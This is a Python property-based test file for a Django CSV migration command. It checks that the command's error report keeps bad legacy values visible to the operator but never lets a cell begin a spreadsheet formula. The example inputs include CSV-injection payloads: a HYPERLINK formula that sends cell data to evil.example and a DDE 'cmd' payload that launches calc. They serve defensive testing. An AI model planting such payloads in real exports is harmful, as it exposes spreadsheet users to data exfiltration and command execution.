"""`migrate_isinsured`'s error report repeats bad legacy cells, but never as a formula."""

import csv
from pathlib import Path

import pytest
from django.core.management import call_command
from hypothesis import HealthCheck, example, given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st

from portal.csv_safety import FORMULA_STARTS
from portal.digits import normalize_digits
from tests.isinsured.conftest import legacy_rows, with_cell, write_export

pytestmark = pytest.mark.django_db

TEXT = st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\x00"))
HOSTILE = st.builds(lambda start, rest: start + rest, st.sampled_from(FORMULA_STARTS), TEXT).filter(
    lambda text: normalize_digits(text) not in {"0", "1"}
)


def report_cells(path: Path) -> list[str]:
    with path.open(encoding="utf-8", newline="") as file:
        return [cell for row in csv.reader(file) for cell in row]


@hypothesis_settings(
    max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(value=HOSTILE)
@example(value='=HYPERLINK("https://evil.example/?"&A1,"Click")')
@example(value="=cmd|' /C calc'!A0")
@example(value="+98912=1+1")
def test_no_cell_of_the_error_report_starts_a_formula(tmp_path, capsys, value):
    rows = legacy_rows()
    rows[1] = with_cell(rows[1], "is_active", value)
    export = write_export(tmp_path / "isinsured.csv", rows)
    report = tmp_path / "isinsured.errors.csv"

    call_command("migrate_isinsured", str(export), "--dry-run", "--errors", str(report))
    capsys.readouterr()

    cells = report_cells(report)
    assert any(value in cell for cell in cells)  # the operator still sees what was wrong
    assert not any(cell.startswith(FORMULA_STARTS) for cell in cells)
